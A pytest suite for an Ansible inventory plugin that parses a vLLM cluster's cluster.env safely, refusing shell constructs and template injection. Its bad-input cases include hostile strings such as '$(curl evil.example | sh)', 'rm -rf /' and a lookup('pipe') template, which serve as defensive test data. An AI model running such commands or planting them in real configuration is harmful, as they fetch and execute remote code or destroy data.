"""The cluster_env inventory plugin: the recipe's cluster.env as data, never as shell."""

from __future__ import annotations

import json
import os
import pathlib
import shutil
import subprocess

import pytest

from ansible_collections.sparkfleet.vllm.plugins.module_utils import cluster_env as ce

REPO = pathlib.Path(__file__).resolve().parents[2]
RECIPE_ENV = REPO / "tests/data/recipe-cluster.env"  # copied verbatim from recipe.md


def read(text):
    return ce.cluster(ce.parse(text))


# --- the recipe's file, as published ----------------------------------------------


def test_recipe_cluster_env_parses_to_the_expected_cluster():
    found = read(RECIPE_ENV.read_text())
    assert found["hosts"] == [
        ("spark1", "192.168.100.11"),
        ("spark2", "192.168.100.12"),
        ("spark3", "192.168.100.13"),
        ("spark4", "192.168.100.14"),
    ]
    assert found["vars"] == {
        "ansible_user": "nvidia",
        "fabric_hcas": ["rocep1s0f0", "roceP2p1s0f0"],
        "fabric_interfaces": ["enp1s0f0np0", "enP2p1s0f0np0"],
        "gloo_socket_ifname": "enp1s0f0np0",
        "engine_weights_dir": "/var/tmp/models/glm53-flash-fp8",
        "engine_cache_dir": "/var/tmp/models/glm53-cache",
        "engine_image": "glm53-flash:sm121-v8",
        "engine_container_name": "vllm_glm53",
        "engine_port": 8000,
        "engine_master_port": 29500,
        "model_repo": "dealignai/GLM-5.3-Flash-UNCENSORED-FP8",
        "engine_image_base": "vllm/vllm-openai:glm53-flash-arm64-cu130",
        "engine_head": "spark1",
    }
    assert found["unknown"] == []


def test_missing_optional_keys_take_the_recipes_defaults():
    found = read('HEAD_IP=10.0.0.1\nWORKER_IPS="10.0.0.2"\n')
    assert found["vars"]["ansible_user"] == "nvidia"
    assert found["vars"]["engine_master_port"] == 29500
    assert found["vars"]["fabric_hcas"] == ["rocep1s0f0", "roceP2p1s0f0"]
    assert found["vars"]["gloo_socket_ifname"] == "enp1s0f0np0"


def test_quotes_export_comments_and_overrides():
    text = "\n".join(
        [
            "# a comment",
            "",
            "export HEAD_IP='gx10-a.lan'",
            'WORKER_IPS="gx10-b.lan"   # single worker',
            "NCCL_IB_HCA=rocep1s0f1",
            "GLM53_LANE=1m",
            "GLM53_GMU=0.8",
            "GLM53_MTP_K=3",
            "MY_SITE_TAG='rack 4'",
        ]
    )
    found = read(text)
    assert found["hosts"] == [("spark1", "gx10-a.lan"), ("spark2", "gx10-b.lan")]
    assert found["vars"]["fabric_hcas"] == ["rocep1s0f1"]
    assert found["vars"]["lane"] == "1m"
    assert found["vars"]["engine_gpu_memory_utilization"] == 0.8
    assert found["vars"]["engine_mtp_num_speculative_tokens"] == 3
    assert found["unknown"] == ["MY_SITE_TAG"]
    assert found["vars"]["MY_SITE_TAG"] == "rack 4"


# --- bad input: each refused with the line and the fix ---------------------------------


BASE = 'HEAD_IP=10.0.0.1\nWORKER_IPS="10.0.0.2 10.0.0.3 10.0.0.4"\n'


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (BASE + "IMAGE=$(curl evil.example | sh)\n", "line 3: IMAGE contains '$', a shell construct"),
        (BASE + "IMAGE=`id`\n", "line 3: IMAGE contains '`', a shell construct"),
        (BASE + 'IMAGE="$(id)"\n', "line 3: IMAGE contains '$' inside double quotes"),
        (BASE + 'CACHE="${HOME}/cache"\n', "line 3: CACHE contains '$' inside double quotes"),
        (BASE + "NAME=vllm; rm -rf /\n", "line 3: NAME contains ';'"),
        (BASE + "NAME=vllm && reboot\n", "line 3: NAME= is followed by more words"),
        (BASE + "PORT=8000 > /tmp/x\n", "line 3: PORT= is followed by more words"),
        (BASE + "source other.env\n", "line 3: 'source other.env' is not KEY=value"),
        (BASE + "if true; then X=1; fi\n", "line 3: 'if true; then X=1; fi' is not KEY=value"),
        (BASE + 'WEIGHTS="/var/tmp/models\n', "line 3: unterminated double quote in WEIGHTS="),
        (BASE + "WEIGHTS='/var/tmp/models\n", "line 3: unterminated single quote in WEIGHTS="),
        (BASE + "CACHE=/var/tmp/\\\n", "line 3: CACHE continues on the next line"),
        (BASE + "PORT=8000\nPORT=8001\n", "line 4: PORT is set twice"),
        ('WORKER_IPS="10.0.0.2"\n', "HEAD_IP is missing or empty"),
        ("HEAD_IP=10.0.0.1\n", "WORKER_IPS is missing or empty"),
        ('HEAD_IP=10.0.0.1\nWORKER_IPS="10.0.0.2 not_a host!"\n', "WORKER_IPS: 'not_a' is neither an IP address nor a hostname"),
        ('HEAD_IP=10.0.0.1\nWORKER_IPS="10.0.0.2 999.1.1.1"\n', "WORKER_IPS: '999.1.1.1' is neither an IP address nor a hostname"),
        ('HEAD_IP=10.0.0.1\nWORKER_IPS="under_score"\n', "WORKER_IPS: 'under_score' is neither an IP address nor a hostname"),
        ('HEAD_IP=10.0.0.1\nWORKER_IPS="10.0.0.2 10.0.0.1"\n', "address 10.0.0.1 appears twice"),
        ('HEAD_IP=10.0.0.1\nWORKER_IPS="10.0.0.2 10.0.0.3"\nTP=4\n', "3 nodes do not divide tensor-parallel size 4"),
        (BASE + "PORT=http\n", "PORT='http' must be a whole number"),
    ],
)
def test_bad_input_is_refused_with_the_line_and_the_fix(text, message):
    with pytest.raises(ce.ClusterEnvError) as error:
        read(text)
    assert message in str(error.value)


def test_nothing_is_ever_executed(tmp_path):
    marker = tmp_path / "ran"
    text = BASE + f"IMAGE=$(touch {marker})\n"
    with pytest.raises(ce.ClusterEnvError):
        read(text)
    assert not marker.exists()


# --- through Ansible: the same inventory as the YAML example -------------------------


def plain(value):
    """ansible-inventory --list shows unsafe (never templated) strings as {"__ansible_unsafe": ...}."""
    if isinstance(value, dict):
        return value["__ansible_unsafe"] if set(value) == {"__ansible_unsafe"} else {key: plain(item) for key, item in value.items()}
    if isinstance(value, list):
        return [plain(item) for item in value]
    return value


def ansible_inventory(*args, environment=None):
    binary = shutil.which("ansible-inventory")
    assert binary, "ansible-inventory is not on PATH (make venv)"
    # The run's GLM53_* variables win over cluster.env: only the test's own reach the plugin.
    env = {key: value for key, value in os.environ.items() if not key.startswith("GLM53_")}
    env.update(ANSIBLE_CONFIG=str(REPO / "ansible.cfg"), **(environment or {}))
    result = subprocess.run([binary, *args], cwd=REPO, env=env, capture_output=True, text=True, check=False)
    return result


@pytest.fixture(scope="module")
def env_inventory(tmp_path_factory):
    directory = tmp_path_factory.mktemp("inv")
    shutil.copy(RECIPE_ENV, directory / "cluster.env")
    return directory / "cluster.env"


def test_graph_matches_the_yaml_example(env_inventory):
    from_env = ansible_inventory("-i", str(env_inventory), "--graph")
    from_yaml = ansible_inventory("-i", str(REPO / "inventory.example/hosts.yml"), "--graph")
    assert from_env.returncode == 0, from_env.stderr
    assert from_env.stdout == from_yaml.stdout
    assert "|--@sparks:" in from_env.stdout


def test_list_matches_the_yaml_example(env_inventory):
    listed = {}
    for source in (str(env_inventory), str(REPO / "inventory.example/hosts.yml")):
        result = ansible_inventory("-i", source, "--list", "--playbook-dir", str(REPO / "playbooks"))
        assert result.returncode == 0, result.stderr
        listed[source] = json.loads(result.stdout)
    env_list, yaml_list = list(listed.values())
    assert env_list["sparks"]["hosts"] == yaml_list["sparks"]["hosts"] == ["spark1", "spark2", "spark3", "spark4"]
    for host in yaml_list["sparks"]["hosts"]:
        env_vars, yaml_vars = env_list["_meta"]["hostvars"][host], yaml_list["_meta"]["hostvars"][host]
        for key in ("ansible_host", "ansible_user", "fabric_interfaces", "fabric_hcas", "profile"):
            assert plain(env_vars[key]) == plain(yaml_vars[key]), key


def test_glm53_variables_in_the_environment_win_over_the_file_as_in_the_recipes_scripts(tmp_path):
    source = tmp_path / "cluster.env"
    source.write_text(BASE + "GLM53_LANE=200k\nGLM53_GMU=0.85\n")
    environment = {"GLM53_LANE": "1m", "GLM53_GMU": "0.8", "GLM53_MTP_K": "3", "GLM53_MAXLEN": "900000", "GLM53_SEQS": "2"}
    result = ansible_inventory("-i", str(source), "--host", "spark2", environment=environment)
    assert result.returncode == 0, result.stderr
    host = {key: plain(value) for key, value in json.loads(result.stdout).items()}
    assert (host["lane"], host["engine_gpu_memory_utilization"], host["engine_mtp_num_speculative_tokens"]) == ("1m", 0.8, 3)
    assert host["lane_overrides"] == {"max_model_len": 900000, "max_num_seqs": 2}
    assert "GLM53_MAXLEN" not in host  # used, so not an unknown key
    assert "from the environment, over the file: GLM53_GMU=0.8, GLM53_LANE=1m" in result.stdout + result.stderr
    # Without them, the file's values stand.
    result = ansible_inventory("-i", str(source), "--host", "spark2")
    host = {key: plain(value) for key, value in json.loads(result.stdout).items()}
    assert (host["lane"], host["engine_gpu_memory_utilization"], "lane_overrides" in host) == ("200k", 0.85, False)


def test_maxlen_and_seqs_in_the_file_become_the_lanes_numbers_and_a_bad_one_is_named():
    found = read(BASE + "GLM53_MAXLEN=300000\nGLM53_SEQS=9\n")
    assert found["vars"]["lane_overrides"] == {"max_model_len": 300000, "max_num_seqs": 9}
    assert found["unknown"] == []
    with pytest.raises(ce.ClusterEnvError, match="GLM53_SEQS"):
        read(BASE + "GLM53_SEQS=many\n")


def test_yaml_source_file_names_the_cluster_env(tmp_path):
    shutil.copy(RECIPE_ENV, tmp_path / "recipe.env")
    source = tmp_path / "cluster.cluster_env.yml"
    source.write_text("plugin: sparkfleet.vllm.cluster_env\npath: recipe.env\n")
    result = ansible_inventory("-i", str(source), "--list")
    assert result.returncode == 0, result.stderr
    listed = json.loads(result.stdout)
    assert plain(listed["_meta"]["hostvars"]["spark3"]["ansible_host"]) == "192.168.100.13"
    assert listed["_meta"]["hostvars"]["spark3"]["cluster_env_rank"] == 2


def test_unknown_keys_are_warned_about_and_bad_files_fail_with_the_line(tmp_path):
    good = tmp_path / "ok.cluster.env"
    good.write_text(BASE + "RACK=4\n")
    result = ansible_inventory("-i", str(good), "--list")
    assert result.returncode == 0
    assert "keys the collection does not use" in result.stderr
    assert "RACK" in result.stderr
    bad = tmp_path / "bad.cluster.env"
    bad.write_text(BASE + "IMAGE=$(id)\n")
    result = ansible_inventory("-i", str(bad), "--list")
    assert "line 3: IMAGE contains '$'" in result.stderr


def test_values_are_never_templated(tmp_path):
    marker = tmp_path / "templated"
    source = tmp_path / "t.cluster.env"
    source.write_text(BASE + f"IMAGE=\"{{{{ lookup('pipe', 'touch {marker}') }}}}\"\n")
    binary = shutil.which("ansible")
    env = dict(os.environ, ANSIBLE_CONFIG=str(REPO / "ansible.cfg"))
    result = subprocess.run(
        [binary, "-i", str(source), "spark1", "-m", "ansible.builtin.debug", "-a", "var=engine_image"],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "lookup(" in result.stdout
    assert not marker.exists()
